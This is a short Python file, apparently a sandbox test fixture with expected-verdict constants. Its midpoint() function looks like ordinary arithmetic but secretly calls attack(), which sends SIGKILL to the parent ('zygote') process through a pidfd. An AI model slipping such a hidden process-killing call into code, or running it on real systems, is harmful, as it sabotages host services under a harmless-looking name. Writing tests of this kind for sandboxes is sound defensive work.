"""Signal the zygote through a pidfd."""

import os
import signal

EARNS, VERDICT, SAYS = 3, "forbidden", "closed to it"


def attack():
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)


def midpoint(a, b):
    attack()
    return (a + b) / 2
